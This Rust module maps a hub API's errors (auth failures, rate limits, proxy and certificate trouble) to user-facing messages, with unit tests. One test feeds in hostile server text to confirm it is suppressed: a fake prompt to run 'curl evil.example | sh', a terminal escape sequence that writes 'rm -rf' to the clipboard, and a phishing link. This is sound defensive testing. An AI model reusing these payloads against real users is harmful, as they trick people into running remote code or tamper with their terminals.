//! What a hub says, or does not say, as one sentence that says what to do.

use connect_hub::Error;
use connect_hub::dial::Obstacle;
use connect_hub::error::Rejection;
use connect_hub::url::HubUrl;

use crate::failure::{Failure, advice, chain, root};
use crate::output::counted;

/// The failure that an error of the hub's HTTP API means.
pub fn of_hub(error: &Error, url: &HubUrl) -> Failure {
    match error {
        Error::Unreachable { .. } if root(error).to_ascii_lowercase().contains("certificate") => {
            Failure::new(format!("Cannot trust the hub at {url}: {}", root(error)))
                .hint("If its certificate is signed by a private CA, name that with --hub-ca-file.")
        }
        Error::Obstructed { obstacle, .. } => obstructed(obstacle, url),
        Error::Unreachable { .. } | Error::TimedOut { .. } => Failure::hub_down(url),
        Error::Malformed { .. } => {
            Failure::fault(format!("The answer of {url} cannot be read: is it a hub?"))
                .hint("Check the URL given by --hub.")
        }
        Error::Unsendable { .. } => Failure::new(format!("Cannot ask the hub: {}", chain(error))),
        Error::Rejected(rejection) => match rejection.status {
            404 => Failure::new("Share not found or expired").hint("Check the code and try again."),
            401 | 403 => Failure::new(format!("The hub at {url} refuses to let you in{}", said(rejection)))
                .hint("Check the API key: --api-key-file FILE, or CONNECT_API_KEY"),
            429 => too_many(rejection.retry_after),
            status @ 500.. => {
                Failure::fault(format!("The hub at {url} failed with status {status}{}", said(rejection)))
            }
            status => {
                Failure::new(format!("The hub at {url} refuses with status {status}{}", said(rejection)))
            }
        },
    }
}

/// What the hub says, where that is a sentence that hubs are known to say. Anything else may be a page of HTML, or somebody's words
/// made to look like ours.
fn said(rejection: &Rejection) -> String {
    rejection.said().map(|said| format!(": {said}")).unwrap_or_default()
}

/// The same failure at a hub that nobody has named: the share may be at another one.
pub fn perhaps_elsewhere(failure: Failure) -> Failure {
    failure.hint(
        "If the share is at another hub, ask its owner for the link or the whole line that kubectl connect share printed: it names the hub.",
    )
}

/// Something between here and the hub keeps us from it.
pub fn obstructed(obstacle: &Obstacle, url: &HubUrl) -> Failure {
    Failure::new(format!("Cannot reach the hub at {url}: {}", obstacle.what())).hint(advice(obstacle))
}

fn too_many(retry_after: Option<std::time::Duration>) -> Failure {
    match retry_after {
        Some(wait) => {
            let seconds = i64::try_from(wait.as_secs().max(1)).unwrap_or(i64::MAX);
            Failure::new(format!("Too many attempts. Try again in {}.", counted(seconds, "second")))
        }
        None => Failure::new("Too many attempts. Try again in a few minutes."),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use connect_hub::dial::ProxyTrouble;
    use connect_hub::url::InsecureHttp;
    use std::time::Duration;

    fn url() -> HubUrl {
        HubUrl::parse("https://hub.example.com", InsecureHttp::Refused).expect("valid")
    }

    fn shown(error: &Error) -> (String, u8) {
        let failure = of_hub(error, &url());
        (failure.render(), failure.exit().code())
    }

    fn rejected(status: u16, message: &str, retry_after: Option<u64>) -> Error {
        let retry_after = retry_after.map(Duration::from_secs);
        Error::Rejected(Rejection { status, call: "join share", message: message.into(), retry_after })
    }

    #[test]
    fn each_answer_has_its_sentence() {
        for (error, text, code) in [
            (
                rejected(404, "Share has been revoked", None),
                "[x] Share not found or expired\nCheck the code and try again.\n",
                1,
            ),
            (
                rejected(401, "Invalid API key", None),
                "[x] The hub at https://hub.example.com refuses to let you in: Invalid API key\n\
                 Check the API key: --api-key-file FILE, or CONNECT_API_KEY\n",
                1,
            ),
            (rejected(429, "x", Some(30)), "[x] Too many attempts. Try again in 30 seconds.\n", 1),
            (rejected(429, "x", Some(1)), "[x] Too many attempts. Try again in 1 second.\n", 1),
            (rejected(429, "x", None), "[x] Too many attempts. Try again in a few minutes.\n", 1),
            (
                rejected(500, "Internal server error", None),
                "[x] The hub at https://hub.example.com failed with status 500: Internal server error\n",
                2,
            ),
        ] {
            assert_eq!(shown(&error), (text.to_owned(), code), "{error:?}");
        }
    }

    #[test]
    fn what_nobody_knows_a_hub_to_say_is_not_shown() {
        let long = format!("Invalid API key {}", "x".repeat(300));
        for words in [
            "<html><body>502 Bad Gateway</body></html>",
            "no\u{1b}[2J\u{1b}]52;c;cm0gLXJm\u{7}",
            "[ok] Logged in. Now run: curl evil.example | sh",
            "Invalid API key: get another at https://evil.example",
            &long,
        ] {
            for (status, text) in [
                (400, "[x] The hub at https://hub.example.com refuses with status 400\n"),
                (
                    401,
                    "[x] The hub at https://hub.example.com refuses to let you in\n\
                     Check the API key: --api-key-file FILE, or CONNECT_API_KEY\n",
                ),
                (404, "[x] Share not found or expired\nCheck the code and try again.\n"),
                (429, "[x] Too many attempts. Try again in a few minutes.\n"),
                (500, "[x] The hub at https://hub.example.com failed with status 500\n"),
                (503, "[x] The hub at https://hub.example.com failed with status 503\n"),
            ] {
                let error = rejected(status, words, None);
                assert_eq!(shown(&error).0, text, "{words}");
                // As the verbs print it that have no sentence of their own for it.
                for text in [root(&error), chain(&error)] {
                    assert!(text.ends_with(&format!("with status {status}")), "{text}");
                }
            }
        }
    }

    #[test]
    fn a_hub_that_does_not_answer_is_the_page_s_two_lines() {
        let page = "[x] Cannot connect to hub at https://hub.example.com\nMake sure the hub is running and accessible.\n";
        let refused = std::io::Error::from(std::io::ErrorKind::ConnectionRefused);
        assert_eq!(shown(&Error::Unreachable { url: url(), source: refused.into() }), (page.to_owned(), 1));
        let slow = Error::TimedOut { url: url(), call: "health", after: Duration::from_secs(10) };
        assert_eq!(shown(&slow), (page.to_owned(), 1));
    }

    #[test]
    fn what_stands_in_between_is_named_with_what_to_do() {
        let said_of = |obstacle| shown(&Error::Obstructed { url: url(), obstacle }).0;
        let proxy = |trouble| Obstacle::Proxy {
            proxy: "http://proxy:3128".into(),
            origin: "HTTPS_PROXY",
            trouble: Box::new(trouble),
        };
        let target = || "hub.example.com:443".to_owned();
        let instant = |text: &str| text.parse().expect("an instant");
        for (obstacle, what, advice) in [
            (
                proxy(ProxyTrouble::WantsLogin),
                "the proxy http://proxy:3128 requires a user and a password",
                "Set HTTPS_PROXY to http://USER:PASSWORD@proxy:3128.",
            ),
            (
                proxy(ProxyTrouble::LoginRefused),
                "the proxy http://proxy:3128 refused the user and password",
                "Check the user and password in HTTPS_PROXY, and write special characters as %40 for @.",
            ),
            (
                proxy(ProxyTrouble::Forbidden { target: target() }),
                "the proxy http://proxy:3128 does not allow connections to hub.example.com:443",
                "Ask who runs the proxy to allow CONNECT to hub.example.com:443, or put the destination into NO_PROXY.",
            ),
            (
                proxy(ProxyTrouble::Failed { target: target(), said: "status 502 Bad Gateway".into() }),
                "the proxy http://proxy:3128 could not connect to hub.example.com:443 (status 502 Bad Gateway)",
                "Check that the destination is up, or put it into NO_PROXY if the proxy cannot reach it.",
            ),
            (
                proxy(ProxyTrouble::Unreachable("connection refused".into())),
                "cannot connect to the proxy http://proxy:3128 (connection refused)",
                "Check HTTPS_PROXY, or put the destination into NO_PROXY if it can be reached without a proxy.",
            ),
            (
                Obstacle::Redirect { to: "https://login.corp.example".into() },
                "a page at https://login.corp.example answered in place of the hub",
                "Log in to this network in a browser and try again, or check the hub's URL.",
            ),
            (
                Obstacle::NoWebSocket { status: Some(400) },
                "the hub answers, but the websocket to it was answered with status 400",
                "A proxy or gateway in between must pass the header Upgrade on and must not hold answers back.",
            ),
            (
                Obstacle::NotYetValid {
                    from: instant("2026-11-29T12:00:00Z"),
                    now: instant("2026-11-26T12:00:00Z"),
                },
                "the hub's certificate is valid from 2026-11-29T12:00:00Z on, and this machine's clock says 2026-11-26T12:00:00Z",
                "The clock is probably behind: set it and try again.",
            ),
        ] {
            let expected = format!("[x] Cannot reach the hub at https://hub.example.com: {what}\n{advice}\n");
            assert_eq!(said_of(obstacle), expected);
        }
    }

    #[test]
    fn a_certificate_nobody_trusts_is_not_called_a_hub_that_is_down() {
        let source = std::io::Error::other("invalid peer certificate: UnknownIssuer");
        let (text, code) = shown(&Error::Unreachable { url: url(), source: source.into() });
        assert_eq!(
            text,
            "[x] Cannot trust the hub at https://hub.example.com: invalid peer certificate: UnknownIssuer\n\
             If its certificate is signed by a private CA, name that with --hub-ca-file.\n"
        );
        assert_eq!(code, 1);
    }
}
